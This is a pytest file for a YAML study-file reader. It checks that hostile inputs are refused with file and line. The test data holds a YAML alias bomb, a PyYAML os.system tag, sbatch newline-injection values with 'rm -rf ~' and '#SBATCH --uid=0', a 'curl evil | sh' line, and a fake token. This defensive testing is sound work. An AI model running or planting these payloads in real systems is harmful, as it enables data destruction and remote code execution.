"""A study file that somebody hands over can be wrong in every way, and is refused quickly, with file and line."""

import os
from pathlib import Path

import pytest
from tests.settings.test_study import GOOD, complaint, study_file

from dreamproof.base.errors import BadInput
from dreamproof.settings.study_file import read_study


def bomb() -> str:
    levels = "\n".join(f"x{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]" for n in range(1, 30))
    return f"x0: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n{levels}\n"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (bomb(), "aliases are written out"),
        ("a: &a [*a]\n", "study.yaml:1: the alias *a contains itself"),
        ("a: " + "[" * 100_000, "study.yaml:1: nested more than 50 levels deep"),
        ("\n".join(" " * n + f"k{n}:" for n in range(2000)), "nested more than 50 levels deep"),
        ("a: " + "{b: " * 5000, "nested more than 50 levels deep"),
        ("# " + "x" * (5 << 20) + "\n" + GOOD, "is larger than 4,194,304 bytes"),
        ("a: " + "9" * 5000 + "\n", "study.yaml: not valid YAML"),
        ("a: 2026-13-45\n", "study.yaml: not valid YAML"),
        ("? [a, b]\n: c\n", "study.yaml:1: not valid YAML"),
        ("name: x\n\tarms: {}\n", "study.yaml:2: not valid YAML: a tab stands where YAML takes only spaces"),
        ("a:\n\tb: y\n", "study.yaml:2: not valid YAML: a tab stands where YAML takes only spaces"),
        ("a:\n  b: 1\n\tc: 2\n", "study.yaml:3: not valid YAML: a tab stands where YAML takes only spaces"),
        ("a:\n  - b: 1\n  -\t\tc: 2\n", "study.yaml:3: not valid YAML: a tab stands where YAML takes only spaces"),
        ("a: !!python/object/apply:os.system [id]\n", "study.yaml:1: not valid YAML"),
    ],
)
def test_yaml_that_would_hang_or_crash_is_refused_with_its_line(tmp_path: Path, text: str, expected: str) -> None:
    assert expected in complaint(tmp_path, text)


def test_aliases_in_use_are_fine(tmp_path: Path) -> None:
    text = GOOD.replace("b: {rate: 0.1}", "b: &b {rate: 0.1}\n  c: {<<: *b, depth: 2}")
    assert read_study(study_file(tmp_path, text)).arms["c"] == {"rate": 0.1, "depth": 2}


def test_a_pipe_in_place_of_the_file_does_not_hang(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "study.yaml")
    with pytest.raises(BadInput, match="is a pipe, not a file"):
        read_study(tmp_path / "study.yaml")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("name: tiny", 'name: "tiny\\n"'),
        ("  b: {rate: 0.1}", '  "b\\n": {rate: 0.1}'),
        ("conditions: [id]", 'conditions: [id, "x\\n"]'),
        ("task: line", 'task: "line\\e[2J"'),
        ("{name: return,", '{name: "return\\n=1",'),
    ],
)
def test_no_name_holds_a_line_break_or_a_control_character(tmp_path: Path, old: str, new: str) -> None:
    assert "study.yaml:" in complaint(tmp_path, GOOD.replace(old, new))


@pytest.mark.parametrize(
    "field", ["partition", "account", "qos", "constraint", "gres", "time_limit", "probe_time_limit"]
)
def test_no_field_of_sbatch_holds_a_line_break(tmp_path: Path, field: str) -> None:
    slurm = f'backend: {{kind: slurm, slurm: {{{field}: "x\\n#SBATCH --uid=0\\nrm -rf ~"}}}}\n'
    assert f"slurm.{field}" in complaint(tmp_path, GOOD + slurm)


def test_an_extra_line_of_sbatch_is_one_line(tmp_path: Path) -> None:
    slurm = 'backend: {kind: slurm, slurm: {extra: ["--exclusive\\ncurl evil | sh"]}}\n'
    assert "slurm.extra" in complaint(tmp_path, GOOD + slurm)
    shell = 'backend: {kind: slurm, slurm: {setup: ["module load cuda\\0"]}}\n'
    assert "slurm.setup" in complaint(tmp_path, GOOD + shell)


TOKEN = "hf_AbCdEfGhIjKlMnOpQrStUvWxYz012345"


@pytest.mark.parametrize(
    ("old", "new", "place"),
    [
        ("  command:", "  environment: {WANDB_API_KEY: abc}\n  command:", "trainer.environment.WANDB_API_KEY"),
        ("  command:", f"  environment: {{HARMLESS: {TOKEN}}}\n  command:", "trainer.environment.HARMLESS"),
        ('"{run_dir}"]', f'"{{run_dir}}", "--token={TOKEN}"]', "trainer.command"),
        ("b: {rate: 0.1}", f"b: {{login: {{key: {TOKEN}}}}}", "arms.b.login.key"),
        (
            "conditions: [id]",
            'conditions: [id]\nbackend: {kind: slurm, slurm: {setup: ["export WANDB_API_KEY=0123456789abcdef"]}}',
            "backend.slurm.setup",
        ),
    ],
)
def test_a_secret_in_a_study_file_is_refused_with_the_remedy(tmp_path: Path, old: str, new: str, place: str) -> None:
    shown = complaint(tmp_path, GOOD.replace(old, new, 1))
    assert place in shown and "from_env" in shown
    assert TOKEN not in shown and "0123456789abcdef" not in shown


def test_a_secret_is_named_and_its_value_is_nowhere(tmp_path: Path) -> None:
    text = GOOD.replace("  command:", "  from_env: [WANDB_API_KEY]\n  command:")
    assert read_study(study_file(tmp_path, text)).trainer.from_env == ["WANDB_API_KEY"]  # type: ignore[union-attr]
    assert "not the name of an environment variable" in complaint(tmp_path, text.replace("WANDB_API_KEY", '"A=b"'))


def test_on_off_yes_and_no_are_words(tmp_path: Path) -> None:
    documented = (Path(__file__).parents[2] / "docs" / "dashboard.md").read_text(encoding="utf-8")
    example = next(part for part in documented.split("```") if part.startswith("yaml\nnotify:")).removeprefix("yaml\n")
    given = example + "settings: {agent: {planner: {mode: off}}, no: yes, alive: true}\n"
    read = read_study(study_file(tmp_path, GOOD + given))
    assert [one.on for one in read.notify] == [["death", "stall", "budget", "decision"], ["decision"]]
    assert read.settings == {"agent": {"planner": {"mode": "off"}}, "no": "yes", "alive": True}
